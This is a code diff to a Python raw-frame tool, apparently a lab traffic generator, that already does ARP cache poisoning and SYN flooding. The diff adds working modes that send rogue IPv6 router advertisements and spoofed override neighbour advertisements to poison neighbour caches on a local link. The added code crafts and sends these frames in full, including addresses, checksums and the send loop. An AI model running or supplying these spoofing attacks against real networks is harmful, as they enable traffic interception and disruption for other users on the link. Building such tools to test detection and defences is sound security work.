@@ -3,6 +3,12 @@
 
   rawframes.py garp IFACE CLAIMED_IP COUNT
       ARP replies from IFACE's own MAC claiming CLAIMED_IP (cache poisoning).
+  rawframes.py rogue-ra IFACE COUNT
+      IPv6 router advertisements (router lifetime 1800 s, prefix 2001:db8:bad::/64) from IFACE's
+      link-local address to all nodes: a rogue router.
+  rawframes.py spoof-na IFACE CLAIMED_IP6 COUNT
+      Unsolicited IPv6 neighbour advertisements (override) from IFACE's link-local address
+      claiming CLAIMED_IP6 is at IFACE's MAC (neighbour cache poisoning).
   rawframes.py flood IFACE SRC_IP GW_MAC DST_IP DST_PORT SECS MAX_PPS
       Alternates broadcast frames from random source MACs with TCP SYNs from IFACE's MAC and
       SRC_IP to DST_IP:DST_PORT (random source ports), through the gateway GW_MAC. Bounded in
@@ -51,6 +57,32 @@ def syn(src_mac: bytes, gw_mac: bytes, src: str, dst: str, sport: int, dport: in
     return gw_mac + src_mac + b"\x08\x00" + ip + tcp
 
 
+def link_local(mac: bytes) -> bytes:
+    return b"\xfe\x80" + b"\0" * 6 + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
+
+
+def icmpv6_to_all_nodes(src_mac: bytes, message: bytes) -> bytes:
+    src, dst = link_local(src_mac), socket.inet_pton(socket.AF_INET6, "ff02::1")
+    pseudo = src + dst + struct.pack("!IxxxB", len(message), 58)
+    message = message[:2] + struct.pack("!H", csum(pseudo + message)) + message[4:]
+    ip = struct.pack("!IHBB", 0x60000000, len(message), 58, 255) + src + dst
+    return b"\x33\x33\x00\x00\x00\x01" + src_mac + b"\x86\xdd" + ip + message
+
+
+def rogue_ra(src_mac: bytes) -> bytes:
+    prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
+    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+    ra += struct.pack("!BB6s", 1, 1, src_mac)
+    ra += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, prefix)
+    return icmpv6_to_all_nodes(src_mac, ra)
+
+
+def spoofed_na(src_mac: bytes, claimed: str) -> bytes:
+    target = socket.inet_pton(socket.AF_INET6, claimed)
+    na = struct.pack("!BBHI16s", 136, 0, 0, 0x20 << 24, target) + struct.pack("!BB6s", 2, 1, src_mac)
+    return icmpv6_to_all_nodes(src_mac, na)
+
+
 def random_mac_frame() -> bytes:
     mac = bytes([random.getrandbits(8) & 0xFE | 0x02] + [random.getrandbits(8) for _ in range(5)])
     return b"\xff" * 6 + mac + b"\x88\xb5" + b"\0" * 46
@@ -65,6 +97,13 @@ def main() -> None:
         claimed, count = sys.argv[3], int(sys.argv[4])
         for _ in range(count):
             sock.send(arp_reply(me, claimed))
+            time.sleep(0.01)
+        return
+    if mode in ("rogue-ra", "spoof-na"):
+        count = int(sys.argv[-1])
+        frame = rogue_ra(me) if mode == "rogue-ra" else spoofed_na(me, sys.argv[3])
+        for _ in range(count):
+            sock.send(frame)
             time.sleep(0.01)
         return
     if mode == "flood":
